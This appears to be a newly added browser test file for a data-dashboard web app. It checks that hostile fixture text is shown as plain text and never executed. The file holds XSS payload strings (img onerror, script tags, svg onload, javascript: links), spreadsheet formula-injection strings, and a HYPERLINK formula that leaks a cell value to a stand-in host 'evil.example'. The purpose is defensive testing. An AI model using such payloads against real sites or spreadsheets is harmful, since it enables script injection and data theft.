@@ -1,0 +1,164 @@
+import path from 'node:path';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import { browserAvailable, launchBrowser, screenshot } from './support/browser.ts';
+import { type RunningServer, repoRoot, startServer } from './support/server.ts';
+
+/** A valid data folder whose every text is markup, script or a formula: see its README. */
+const HOSTILE_DATA_DIR = path.join(repoRoot, 'tests/fixtures/hostile-data');
+
+/** Elements the data's markup would have made, had any of it been parsed as HTML. */
+const INJECTED = [
+  'script:not([src])',
+  'img[src="x"]',
+  'iframe',
+  'style',
+  '[onerror]',
+  '[onload]',
+  '[onmouseover]',
+  'a[href^="javascript:"]',
+].join(', ');
+
+/** What every view must hold afterwards: text shown as text, and nothing run. */
+interface PageRecord {
+  dialogs: string[];
+  errors: string[];
+}
+
+describe.skipIf(!browserAvailable)('text from hostile data files is shown as text, and runs nothing', () => {
+  let server: RunningServer;
+  let browser: Browser;
+  let context: BrowserContext | undefined;
+  let page: Page;
+  let record: PageRecord;
+
+  beforeAll(async () => {
+    server = await startServer({ dataDir: HOSTILE_DATA_DIR });
+    browser = await launchBrowser();
+  });
+  afterAll(async () => {
+    await context?.close();
+    await browser?.close();
+    await server?.stop();
+  });
+
+  async function open(address: string): Promise<Page> {
+    await context?.close();
+    context = await browser.newContext({ viewport: { width: 1280, height: 900 }, locale: 'en-GB' });
+    page = await context.newPage();
+    record = { dialogs: [], errors: [] };
+    const current = record;
+    page.on('dialog', (dialog) => {
+      current.dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    page.on('pageerror', (error) => current.errors.push(String(error)));
+    await page.addInitScript(() => {
+      const scope = window as unknown as { __violations: string[] };
+      scope.__violations = [];
+      document.addEventListener('securitypolicyviolation', (event) => {
+        scope.__violations.push(
+          `${event.violatedDirective}: ${event.sample || event.blockedURI} ${event.sourceFile}:${event.lineNumber}:${event.columnNumber}`,
+        );
+      });
+    });
+    await page.goto(`${server.url}${address}`);
+    return page;
+  }
+
+  /** The text of the main region once it holds `text`, which the data holds as a literal string. */
+  async function expectVisibleText(text: string) {
+    await expect.poll(() => page.locator('main').innerText(), { timeout: 10_000 }).toContain(text);
+  }
+
+  afterEach(async () => {
+    if (!context) return;
+    await page.waitForLoadState('networkidle');
+    const state = await page.evaluate(
+      (selector) => ({
+        pwned: (window as unknown as { __pwned?: unknown }).__pwned,
+        violations: (window as unknown as { __violations: string[] }).__violations,
+        injected: [...document.querySelectorAll(selector)].map((element) => element.outerHTML.slice(0, 120)),
+      }),
+      INJECTED,
+    );
+    expect(state.pwned, 'window.__pwned was set: a script from the data ran').toBeUndefined();
+    expect(state.injected, 'markup from the data became elements').toEqual([]);
+    expect(state.violations, 'the page tried to run something the CSP blocked').toEqual([]);
+    expect(record.dialogs).toEqual([]);
+    expect(record.errors).toEqual([]);
+  });
+
+  it('overview: indicator names and values as text', async () => {
+    await open('/');
+    await page.getByTestId('indicator-card').first().waitFor();
+    await expectVisibleText('Partner localities <img src=x onerror="window.__pwned=1">');
+    await expectVisibleText('=HYPERLINK("https://evil.example/?leak="&A1,"FDI attracted")');
+    await screenshot(page, 'hostile-overview');
+  });
+
+  it('indicator view: the name, note and a pinned citation with its evidence', async () => {
+    await open('/indicators/partner_localities');
+    await page.getByTestId('chart-point').first().waitFor();
+    await expectVisibleText('Partner localities <img src=x onerror="window.__pwned=1">');
+    await expectVisibleText('javascript:window.__pwned=1');
+    await page.getByTestId('chart-point').last().click();
+    await expect
+      .poll(() => page.getByTestId('citation-panel').innerText())
+      .toContain('<img src=x onerror="window.__pwned=1"> relations with 14 foreign localities');
+    await screenshot(page, 'hostile-indicator');
+  });
+
+  it('indicator view as a table: sources and notes as text', async () => {
+    await open('/indicators/partner_localities');
+    await page.getByRole('button', { name: 'Table' }).click();
+    await page.getByRole('table').waitFor();
+    await expect.poll(() => page.getByRole('table').innerText()).toContain('@SUM(1+1) <img src=x onerror="window.__pwned=1">');
+  });
+
+  it('sources: titles, evidence and the article links as given', async () => {
+    await open('/sources');
+    await expectVisibleText('<script>window.__pwned=1</script> Binh Duong "partners", with a comma');
+    await expectVisibleText('Bình Dương: <b>đối ngoại</b> & "đầu tư" <script>window.__pwned=1</script>');
+    const hrefs = await page.locator('main a[href^="http"]').evaluateAll((links) => links.map((a) => a.getAttribute('href')));
+    expect(hrefs).toContain('https://example.org/news?q=<script>window.__pwned=1</script>&t="x"');
+    await screenshot(page, 'hostile-sources');
+  });
+
+  it('timeline: event names and evidence as text', async () => {
+    await open('/timeline');
+    await expectVisibleText('<svg onload="window.__pwned=1">Kumamoto</svg>');
+    await expectVisibleText('=1+1 Investment conference');
+  });
+
+  it('presenter: the slide title as text', async () => {
+    await open('/?present=1&slide=1');
+    await page.getByTestId('slide').waitFor();
+    await expect.poll(() => page.getByTestId('slide').innerText()).toContain('<img src=x onerror="window.__pwned=1">');
+    await screenshot(page, 'hostile-present');
+  });
+
+  it('Tiếng Việt: the Vietnamese names as text, diacritics intact', async () => {
+    await open('/indicators/partner_localities?lang=vi');
+    await page.getByTestId('chart-point').first().waitFor();
+    await expectVisibleText('Địa phương kết nghĩa <script>window.__pwned=1</script>');
+  });
+
+  it('embed: the chart, its title and source line as text', async () => {
+    await open('/embed/partner_localities');
+    await expect
+      .poll(() => page.locator('body').innerText(), { timeout: 10_000 })
+      .toContain('Partner localities <img src=x onerror="window.__pwned=1">');
+  });
+
+  it('checks: loads and runs nothing', async () => {
+    await open('/checks');
+    await page.locator('main h1').first().waitFor();
+  });
+
+  it('API reference page: loads and runs nothing', async () => {
+    await open('/api/docs');
+    await page.locator('h1').first().waitFor();
+    expect(await page.locator('body').innerText()).toContain('/api/observations');
+  });
+});
